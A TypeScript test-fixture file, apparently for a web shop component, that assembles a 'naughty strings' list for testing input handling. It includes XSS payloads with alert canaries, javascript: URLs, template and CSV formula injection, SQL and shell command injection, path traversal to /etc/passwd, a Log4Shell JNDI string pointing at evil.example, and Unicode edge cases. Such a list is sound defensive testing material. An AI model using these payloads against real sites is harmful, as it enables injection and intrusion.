// biome-ignore-all lint/suspicious/noTemplateCurlyInString: such texts are the point

/** Handlers that would call a canary as soon as the text is read as markup. */
const calls = ['alert(1)', 'alert`1`', 'confirm(1)', 'prompt(1)', 'print()', 'top.alert(1)', 'window["alert"](1)', '(0,alert)(1)', 'eval("alert(1)")', 'setTimeout(alert)']

/** Read as markup, each of these runs its script by itself. */
const elements = (script: string) => [
  `<img src=x onerror=${script}>`,
  `<img src="x" onerror="${script.replaceAll('"', '&quot;')}">`,
  `<IMG SRC=/nothing OnErRoR='${script}'>`,
  `<img/src/onerror=${script}>`,
  `<svg onload=${script}>`,
  `<svg><image href=x onerror=${script}></svg>`,
  `<video src=x onerror=${script}></video>`,
  `<audio src=x onerror=${script}></audio>`,
  `<details open ontoggle=${script}>x</details>`,
  `<input autofocus onfocus=${script}>`,
  `<style onload=${script}></style>`,
  `<iframe onload=${script}></iframe>`,
  `<object data=x onerror=${script}></object>`,
  `<script>${script}</script>`,
  `"><img src=x onerror=${script}>`,
  `'><img src=x onerror=${script}>`,
  `</h3></a></li><img src=x onerror=${script}>`,
  `--><img src=x onerror=${script}>`,
  `</title><img src=x onerror=${script}>`,
  `</textarea><img src=x onerror=${script}>`,
  `<template shadowrootmode=open><img src=x onerror=${script}></template>`,
]

/** Harmless as markup, dangerous as an address, a style, a template, a formula, JSON or a key. */
const elsewhere = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', '\u0001javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', '//evil.example/x.js', '\\\\evil.example\\x', 'https://evil.example/', 'blob:null/1',
  'expression(alert(1))', 'url(javascript:alert(1))', '}</style><script>alert(1)</script>', '@import "//evil.example/x.css"', 'color:red;background:url(//evil.example)',
  '${alert(1)}', '{{constructor.constructor("alert(1)")()}}', '#{alert(1)}', '<%= alert(1) %>', '[[alert(1)]]', '{alert(1)}', '`${alert(1)}`',
  '=cmd|"/c calc"!A1', '+SUM(1+1)', '@SUM(1)', '-1+1', '%s%s%s%n', '%00', '%0d%0aSet-Cookie: a=b', '\r\nSet-Cookie: a=b', '../../../../etc/passwd', '..\\..\\windows',
  '{"__proto__":{"polluted":true}}', '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'then', 'valueOf', '$$typeof', 'dangerouslySetInnerHTML', 'ref', 'key',
  "'; DROP TABLE products; --", '1 OR 1=1', "Robert'); DROP TABLE Students;--", '" or ""="', '`id`', '$(id)', '| ls', '; ls', '&& ls', '${jndi:ldap://evil.example/a}',
  '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;img src=x onerror=alert(1)&#62;', '&amp;amp;', '&nbsp;', '&#x0;', '&notanentity;', '\\u003cscript\\u003e', '%3Cscript%3Ealert(1)%3C/script%3E',
  '<', '>', '<>', '</', '<!--', '-->', '<![CDATA[', ']]>', '<?php', '<!DOCTYPE html>', '<b', '<b>fett</b>', '<br>', '<a href=', '<vitrine-store locale="en">', '<slot></slot>',
]

/** What real people, real keyboards and real copies put into fields. */
const people = [
  'Ümläüte ß ÄÖÜ', 'Ｆｕｌｌｗｉｄｔｈ', '日本語の商品', '中文产品', '한국어', 'العربية', 'עברית', 'ไทย', 'हिन्दी', 'Ελληνικά', 'Русский', 'Tiếng Việt', 'İstanbul ı', 'ﷺ', 'ﬁ ﬂ',
  '😀', '👩‍👩‍👧‍👦', '🇩🇪', '👍🏽', '❤️', '🏳️‍🌈', 'e\u0301', 'Z̸̡̛͔a̷͎͒l̴̰̍g̵̗͝ö̶́', '\u202Eabc', '\u202Dabc\u202C', '\u2066abc\u2069', '\u200B', 'a\u200Bb', '\uFEFFabc', '\u00ADsoft', '\u00A0',
  '\u2028', '\u2029', '\u0000', 'a\u0000b', '\u0007', '\u001B[31mrot', '\u007F', '\u0085', '\uD800', 'a\uDC00b', '\uFFFD', '\uFFFF', '\u{10FFFF}',
  ' ', '   ', '\t', ' vorn', 'hinten ', 'zwei  Leerzeichen', 'Zeile\nzwei', 'Zeile\r\nzwei', '-', '_', '.', '...', '/', '\\', '"', "'", '`', '´', '„Gänsefüßchen“', '«»',
  'null', 'undefined', 'NaN', 'Infinity', '-Infinity', 'true', 'false', 'None', 'nil', '[object Object]', 'function () {}', '[]', '{}', '0', '00', '-0', '1', '1e9', '0x1F', '1.5', '1,5', '９',
  '1/0', '2147483648', '9007199254740993', '1'.repeat(400), 'a'.repeat(3000), 'Wort '.repeat(500), 'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft',
  'A'.repeat(200), '🙂'.repeat(300), '\u0301'.repeat(200), 'http://example.org', 'mailto:a@example.org', 'tel:+49', 'a@b', 'O’Neill', "D'Angelo", 'Müller-Lüdenscheidt', 'von und zu',
]

export const scriptTexts: readonly string[] = calls.flatMap((call) => elements(call))
/** Every text once. */
export const naughtyStrings: readonly string[] = [...new Set([...scriptTexts, ...elsewhere, ...people])]
